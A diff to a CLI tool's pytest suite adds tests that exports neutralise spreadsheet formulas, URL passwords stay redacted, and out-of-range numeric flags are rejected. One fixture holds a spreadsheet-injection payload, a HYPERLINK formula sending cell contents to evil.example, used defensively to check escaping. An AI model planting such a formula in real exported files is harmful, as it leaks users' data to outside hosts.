@@ -1,5 +1,6 @@
 """The batchnb command, run as a user runs it: a real process."""
 
+import argparse
 import os
 import signal
 import subprocess
@@ -762,3 +763,146 @@ def test_a_run_with_many_failures_groups_them_by_cause_and_says_each_status_once
     rows = lines[lines.index("first failures:") + 1 :]
     assert rows[:2] == ["  row 3: 400 name: is required", "  row 7: 400 name: must be at most 200 characters"]
     assert len(rows) == 10 and not any("400 400" in line for line in lines)
+
+
+# ---------------------------------------------------------------- no formula reaches a spreadsheet
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+
+
+def test_run_writes_no_text_as_a_formula_to_xlsx_or_csv(tmp_path, demo_server):
+    openpyxl = pytest.importorskip("openpyxl")
+    url, _db = demo_server
+    ops = tmp_path / "ops.csv"
+    pd.DataFrame({"name": ["Formula Co", "Plain Co"], "note": [FORMULA, "-draft"], "delta": [-3, 4]}).to_csv(
+        ops, index=False
+    )
+    base = ["run", str(ops), "--url", url, "--method", "POST", "--path", CO, "--body-columns", "name", "-q"]
+    xlsx = tmp_path / "out.xlsx"
+    r = batchnb(*base, "-o", str(xlsx), env=RUN_ENV)
+    assert r.returncode == 0, r.stderr
+    sheet = openpyxl.load_workbook(xlsx).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert FORMULA in [c.value for c in cells]
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+    assert -3 in [c.value for c in cells if c.data_type == "n"]
+    r = batchnb(*base, "-o", str(tmp_path / "out.csv"), env=RUN_ENV)
+    written = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
+    assert written["note"].tolist() == ["'" + FORMULA, "'-draft"] and written["delta"].tolist() == ["-3", "4"]
+    r = batchnb(*base, "-o", str(tmp_path / "raw.csv"), "--raw-cells", env=RUN_ENV)
+    assert r.returncode == 0, r.stderr
+    assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["note"].tolist() == [FORMULA, "-draft"]
+
+
+@pytest.mark.parametrize(
+    ("args", "said"),
+    [
+        (["--raw-cells"], "batchnb: run --raw-cells: applies to -o, which is not given"),
+        (["--raw-cells", "-o", "r.xlsx"], "batchnb: run --raw-cells: applies to a CSV output"),
+    ],
+)
+def test_raw_cells_applies_to_a_csv_output_only(tmp_path, args, said):
+    ops = companies_csv(tmp_path / "ops.csv", ["A"])
+    r = batchnb("run", str(ops), "--url", "http://127.0.0.1:9", *args, cwd=tmp_path)
+    assert r.returncode == 2 and r.stderr.startswith(said), r.stderr
+
+
+# ---------------------------------------------------------------- a URL's password is never shown
+
+PASSWORD = "S3cretPassw0rd"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
+def test_a_password_in_the_url_appears_nowhere_and_files_are_the_owners_only(tmp_path, demo_server):
+    url, _db = demo_server
+    ops = companies_csv(tmp_path / "ops.csv", ["A", "B"])
+    closed = f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}"
+    served = url.replace("http://", f"http://alice:{PASSWORD}@")
+    env = {**RUN_ENV, "BATCHNB_URL": ""}
+    for n, target in enumerate([closed, served]):
+        out, journal = tmp_path / f"out{n}.csv", tmp_path / f"j{n}.jsonl"
+        args = ["run", str(ops), "--url", target, "--method", "POST", "--path", CO, "--body-columns", "name"]
+        r = batchnb(*args, "--retries", "0", "-o", str(out), "--journal", str(journal), env=env)
+        assert r.returncode == 1, r.stderr
+        stdout = batchnb(*args, "--retries", "0", "-o", "-", env=env).stdout
+        for shown in (r.stdout, r.stderr, stdout, out.read_text(), journal.read_text()):
+            assert PASSWORD not in shown, shown
+        assert out.stat().st_mode & 0o777 == 0o600 and journal.stat().st_mode & 0o777 == 0o600
+    r = batchnb("run", str(ops), "--url", f"ftp://alice:{PASSWORD}@127.0.0.1:9", env=env)
+    assert r.returncode == 2 and "ftp://***@127.0.0.1:9" in r.stderr and PASSWORD not in r.stderr
+
+
+def test_serve_names_its_upstream_without_the_password(tmp_path):
+    upstream = f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}"
+    with serving(tmp_path, "--upstream", upstream, env={**ENV, "BATCHNB_TOKEN": "t"}) as (_url, log):
+        text = log.read_text()
+    assert "the upstream http://***@127.0.0.1:" in text and PASSWORD not in text
+
+
+# ---------------------------------------------------------------- numbers given as flags
+
+
+@pytest.mark.parametrize(
+    ("command", "flag", "value"),
+    [
+        ("serve", "--idempotency-ttl", "0"),
+        ("serve", "--idempotency-ttl", "nan"),
+        ("serve", "--idempotency-ttl", "-3600"),
+        ("serve", "--max-requests", "0"),
+        ("serve", "--operation-timeout", "inf"),
+        ("serve", "--port", "0"),
+        ("run", "--concurrency", "0"),
+        ("run", "--retry-for", "nan"),
+        ("run", "--batch-rate", "-1"),
+    ],
+)
+def test_a_number_flag_out_of_its_range_exits_2_naming_the_flag(tmp_path, command, flag, value):
+    args = [str(companies_csv(tmp_path / "ops.csv", ["A"])), "--url", "http://127.0.0.1:9"] if command == "run" else []
+    r = batchnb(command, *args, flag, value, cwd=tmp_path)
+    assert r.returncode == 2, r.stderr
+    assert flag in r.stderr and repr(value) in r.stderr.replace(f"not {value}", f"not {value!r}"), r.stderr
+    assert "Traceback" not in r.stderr and r.stdout == ""
+
+
+def _numbers_of(command: str) -> list[tuple[str, object]]:
+    """Every flag of ``command`` that takes a number: its name and default."""
+    from batchnb.cli import build_parser
+
+    sub = next(a for a in build_parser()._actions if isinstance(a, argparse._SubParsersAction)).choices[command]
+    return [
+        (a.option_strings[-1], a.default)
+        for a in sub._actions
+        if a.option_strings and isinstance(a.default, (int, float)) and not isinstance(a.default, bool)
+    ]
+
+
+@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf", "-inf", "1e999", "x", "", "٣"])
+def test_every_number_flag_of_serve_refuses_what_is_not_in_its_range(value, capsys):
+    from batchnb.cli import build_parser
+
+    flags = _numbers_of("serve")
+    assert {"--port", "--idempotency-ttl", "--workers", "--max-requests", "--batch-timeout"} <= {f for f, _ in flags}
+    for flag, _default in flags:
+        if value == "0" and flag == "--max-concurrent-batches":
+            continue  # 0 takes no batch: each is answered 429 (and says so in its help)
+        with pytest.raises(SystemExit) as exit:
+            build_parser().parse_args(["serve", f"{flag}={value}"])
+        assert exit.value.code == 2 and f"argument {flag}: must be " in capsys.readouterr().err, flag
+
+
+@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf", "x"])
+def test_every_number_flag_of_run_refuses_what_is_not_in_its_range(tmp_path, value, capsys):
+    from batchnb.cli import main
+
+    ops = str(companies_csv(tmp_path / "ops.csv", ["A"]))
+    flags = dict(_numbers_of("run"))
+    assert set(flags) >= {"--concurrency", "--retries", "--retry-for"}
+    for flag in [*flags, "--batch-rate", "--rate"]:
+        if value == "0" and flag in ("--retries", "--retry-for"):
+            continue  # no resend, no retry: both mean what they say
+        try:
+            status = main(["run", ops, "--url", "http://127.0.0.1:9", "--dry-run", f"{flag}={value}"])
+        except SystemExit as exit:  # argparse: not a number at all
+            status = exit.code
+        err = capsys.readouterr().err
+        assert status == 2 and flag in err and "Traceback" not in err, (flag, err)
